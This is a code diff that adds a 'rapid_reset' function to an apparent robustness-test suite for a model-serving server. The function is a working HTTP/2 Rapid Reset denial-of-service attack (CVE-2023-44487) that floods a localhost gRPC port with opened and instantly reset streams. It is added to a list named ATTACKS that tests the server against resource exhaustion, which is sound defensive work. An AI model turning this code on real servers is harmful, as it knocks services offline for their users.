@@ -328,6 +328,37 @@ def unread_bodies(server: Server, image: np.ndarray) -> str:
     return f"50 requests answered with their bodies unread: all closed in {time.monotonic() - started:.1f} s"
 
 
+def rapid_reset(server: Server, image: np.ndarray) -> str:
+    """gRPC streams opened and reset at once (CVE-2023-44487), as fast as one client can for 5 s."""
+    import h2.config
+    import h2.connection
+
+    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+    headers = [
+        (":method", "POST"),
+        (":scheme", "http"),
+        (":path", PREDICT),
+        (":authority", "127.0.0.1"),
+        ("content-type", "application/grpc"),
+        ("te", "trailers"),
+    ]
+    sent, deadline = 0, time.monotonic() + 5
+    with socket.create_connection(("127.0.0.1", server.grpc_port), timeout=30) as sock:
+        connection.initiate_connection()
+        sock.sendall(connection.data_to_send())
+        try:
+            while time.monotonic() < deadline:
+                for _ in range(200):
+                    stream = connection.get_next_available_stream_id()
+                    connection.send_headers(stream, headers)
+                    connection.reset_stream(stream)
+                sock.sendall(connection.data_to_send())
+                sent += 200
+        except OSError:  # the server closed the connection: it may
+            pass
+    return f"{sent:,} gRPC streams opened and reset at once, in 5 s, from one connection"
+
+
 ATTACKS: list[Callable[[Server, np.ndarray], str]] = [
     large_json,
     stalled_bodies,
@@ -341,4 +372,5 @@ ATTACKS: list[Callable[[Server, np.ndarray], str]] = [
     endless_trailers,
     pipelined_flood,
     unread_bodies,
+    rapid_reset,
 ]
